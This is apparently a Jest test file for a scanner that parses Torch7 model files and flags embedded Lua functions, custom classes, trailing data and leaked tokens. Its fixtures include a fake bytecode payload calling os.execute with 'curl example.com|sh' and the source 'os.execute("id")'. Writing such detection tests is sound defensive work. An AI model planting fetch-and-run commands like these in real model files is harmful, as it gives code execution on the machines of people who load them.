import { describe, expect, test } from '@jest/globals';
import { torch7Format } from '../../../src/formats/torch7/index.js';
import { collect, factsOf, formatContract, probeOf } from '../../helpers/contract.js';
import { expand } from '../../helpers/expand.js';
import { scanBytes } from '../../helpers/scan.js';
import { torch7, type LuaValue } from '../../helpers/torch7-writer.js';

const CODE = '\x1bLJ\x02\x0a\x00\x00os\x00\x0cexecute\x00\x07curl example.com|sh\x00';

const net: LuaValue = {
  object: 'nn.Sequential',
  value: {
    table: [
      ['train', false],
      ['name', 'digits'],
      [
        'modules',
        {
          table: [
            [
              1,
              {
                object: 'nn.Linear',
                value: { table: [['weight', { tensor: [2, 3], storage: [1, 2, 3, 4, 5.5, -6] }]] },
              },
            ],
            [2, { object: 'nn.LogSoftMax', value: { table: [['output', { tensor: [], storage: [] }]] } }],
            [3, { index: 1 }],
            [4, null],
          ],
        },
      ],
    ],
  },
};
const withCode = (code: string, type?: number): LuaValue => ({
  object: 'nn.Identity',
  value: {
    table: [
      [
        'forward',
        {
          code,
          ...(type !== undefined && { type }),
          upvalues: { table: [[1, { table: [['name', 'os']] }]] },
        },
      ],
      ['after', { tensor: [1], storage: [1] }],
    ],
  },
});

formatContract(torch7Format, [
  { name: 'a net', bytes: torch7(net), path: 'net.t7' },
  { name: 'a net as text', bytes: torch7(net, 'ascii'), path: 'net.t7' },
  { name: 'a function', bytes: torch7(withCode(CODE)), path: 'net.t7' },
  { name: 'a function as text', bytes: torch7(withCode(CODE), 'ascii'), path: 'net.bin' },
]);

async function operatorsOf(bytes: Uint8Array): Promise<string[]> {
  const { facts } = await collect(torch7Format, bytes, 'net.t7');
  return factsOf(facts, 'operator').map(({ code }) => code);
}

describe.each(['binary', 'ascii'] as const)('in the %s form', (form) => {
  test('classes, tensors and strings of a net are told, and nothing is found in it', async () => {
    const { facts, details, error } = await collect(torch7Format, torch7(net, form), 'net.t7');
    expect(error).toBeUndefined();
    expect(factsOf(facts, 'operator').map(({ namespace, name }) => `${namespace}.${name}`)).toEqual([
      'nn.Sequential',
      'nn.Linear',
      'nn.LogSoftMax',
    ]);
    expect(details).toEqual([
      { kind: 'metadata', key: 'name', value: 'digits' },
      { kind: 'tensor', name: 'modules.1.weight', dtype: 'Float', shape: [2, 3] },
      { kind: 'tensor', name: 'modules.2.output', dtype: 'Float', shape: [] },
    ]);
    expect((await scanBytes('net.t7', torch7(net, form))).findings).toEqual([]);
  });

  test.each([6, 7, 8])('a function of the type %i is told with what it names', async (type) => {
    const bytes = torch7(withCode(CODE, type), form);
    expect(await operatorsOf(bytes)).toEqual(['nn.Identity', 'forward: execute curl example.com|sh']);
    const { details } = await collect(torch7Format, bytes, 'net.t7');
    expect(details).toContainEqual({ kind: 'tensor', name: 'after', dtype: 'Float', shape: [1] });
    const { findings } = await scanBytes('net.t7', bytes);
    expect(findings.map(({ rule }) => [rule.id, rule.severity])).toEqual([['model/torch7-function', 'high']]);
  });

  test('source code in place of bytecode is one too', async () => {
    expect(await operatorsOf(torch7(withCode('os.execute("id")'), form))).toContain(
      'forward: os.execute("id")',
    );
  });

  test('a tensor that reaches behind its storage', async () => {
    const bytes = torch7({ table: [['w', { tensor: [2, 2], storage: [1, 2, 3, 4], offset: 2 }]] }, form);
    const { facts } = await collect(torch7Format, bytes, 'net.t7');
    expect(factsOf(facts, 'anomaly')).toMatchObject([{ anomaly: 'tensor-layout' }]);
  });

  test('a secret in a string', async () => {
    const key = expand('hf_<letters:34>');
    const { findings } = await scanBytes('net.t7', torch7({ table: [['token', key]] }, form));
    expect(findings.map(({ rule }) => rule.id)).toEqual(['secret/huggingface-token']);
  });
});

test('functions behind what nobody can read are found', async () => {
  const strange: LuaValue = { object: 'evil.Reader', value: { table: [] } };
  const bytes = Buffer.concat([
    torch7({ table: [[1, strange]] }).subarray(0, -12),
    Buffer.from([9, 9, 9, 9]),
    Buffer.from(CODE, 'latin1'),
  ]);
  const { error } = await collect(torch7Format, bytes, 'net.t7');
  expect(error).toMatchObject({ anomaly: 'unread-model' });
  const { findings } = await scanBytes('net.t7', bytes);
  expect(findings.map(({ rule }) => rule.id)).toEqual(
    expect.arrayContaining(['model/torch7-function', 'model/torch7-custom-class', 'model/unread']),
  );
  const behind = Buffer.concat([torch7(net), Buffer.alloc(70_000), Buffer.from(CODE, 'latin1')]);
  expect((await scanBytes('net.t7', behind)).findings.map(({ rule }) => rule.id)).toEqual(
    expect.arrayContaining(['model/torch7-function', 'model/trailing-data']),
  );
});

test('files from before there were versions', async () => {
  expect(await operatorsOf(torch7({ object: 'nn.Linear', version: '', value: null }))).toEqual(['nn.Linear']);
});

test('files are known by their bytes, and text of the name is none', () => {
  expect(torch7Format.matches(probeOf(torch7(net), 'model.bin'))).toBe(true);
  expect(torch7Format.matches(probeOf(torch7({ table: [['a', 2]] }, 'ascii'), 'model'))).toBe(true);
  expect(torch7Format.matches(probeOf(Buffer.from('version https://git-lfs'), 'net.t7'))).toBe(false);
  expect(torch7Format.matches(probeOf(Buffer.from('3\n1\n4\n1\n5\n'), 'numbers.txt'))).toBe(false);
});
